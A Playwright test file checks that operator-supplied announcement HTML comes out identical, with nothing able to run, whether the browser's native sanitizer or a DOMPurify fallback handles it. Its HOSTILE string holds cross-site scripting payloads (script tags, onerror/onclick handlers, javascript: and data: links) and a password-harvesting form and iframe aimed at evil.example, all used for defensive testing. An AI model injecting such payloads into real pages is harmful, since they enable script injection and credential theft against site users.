// Operator HTML goes through the browser's own sanitizer where there is one, and through DOMPurify,
// fetched only then, where there is not (src/ui/sanitize/sanitizeHtml.ts). Both must leave the same
// page from the same hostile markup, and neither may let anything run.
import { expect, type Browser } from '@playwright/test'
import { markNewsSeen, test } from './helpers'

const HOSTILE = [
  '<h2>Terms</h2><p>Deposit <strong>$20</strong>, <em>once</em>.</p><ul><li>One</li></ul><a href="/qa">Q&amp;A</a>',
  '<div><font color="red">Ends <b>Sunday</b></font></div>',
  '<a href="https://www.gamblersanonymous.org" rel="opener">GA</a>',
  '<script>window.__xss = 1</script><svg><script>window.__xss = 2</script></svg>',
  '<img src="x" onerror="window.__xss = 3"><p onclick="window.__xss = 4" style="position: fixed">handlers</p>',
  '<a href="javascript:window.__xss = 5">js link</a><a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<iframe src="https://evil.example" onload="window.__xss = 6"></iframe><form action="https://evil.example"><input name="password"><button>Verify</button></form>',
  '<style>main { display: none }</style><table><tr><td colspan="2">cell</td></tr></table><!-- a comment -->',
].join('')

async function sanitizedAnnouncement(browser: Browser, baseURL: string, withNativeSanitizer: boolean) {
  const context = await browser.newContext({ serviceWorkers: 'block' })
  await markNewsSeen(context, baseURL)
  if (!withNativeSanitizer) await context.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'))
  const page = await context.newPage()
  const alerts: string[] = []
  page.on('dialog', (dialog) => {
    alerts.push(dialog.message())
    void dialog.dismiss()
  })
  const scripts: string[] = []
  page.on('request', (request) => request.resourceType() === 'script' && scripts.push(request.url()))
  await page.route('**/api/Announcement/getAnnouncementList', async (route) => {
    const response = await route.fetch()
    const body = (await response.json()) as { announcements: { html: string }[] }
    for (const announcement of body.announcements) announcement.html = HOSTILE
    await route.fulfill({ response, json: body })
  })
  await page.goto(`${baseURL}/announcement`)
  const richText = page.locator('main .rich-text').first()
  await expect(richText.getByText('Ends')).toBeVisible()
  await expect(page.locator('main .rich-text').locator('script, style, form, input, button, iframe, svg, img, [onerror], [onclick], [style]')).toHaveCount(0)
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined()
  expect(alerts).toEqual([])
  const html = await richText.evaluate((element) => element.innerHTML)
  await context.close()
  return { html, fetchedDomPurify: scripts.some((url) => /purify/.test(url)) }
}

test('operator HTML: the browser sanitizes it itself, without DOMPurify, and the same as DOMPurify where it cannot', async ({ browser, baseURL }) => {
  const native = await sanitizedAnnouncement(browser, baseURL!, true)
  const fallback = await sanitizedAnnouncement(browser, baseURL!, false)
  expect(native.fetchedDomPurify).toBe(false)
  expect(fallback.fetchedDomPurify).toBe(true)
  expect(native.html).toBe(
    '<h2>Terms</h2><p>Deposit <strong>$20</strong>, <em>once</em>.</p><ul><li>One</li></ul><a href="/qa">Q&amp;A</a>' +
      'Ends <b>Sunday</b>' +
      '<a href="https://www.gamblersanonymous.org" rel="noopener noreferrer">GA</a>' +
      '<p>handlers</p>' +
      '<a>js link</a><a>data link</a>' +
      'Verify' +
      '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>',
  )
  expect(fallback.html).toBe(native.html)
})
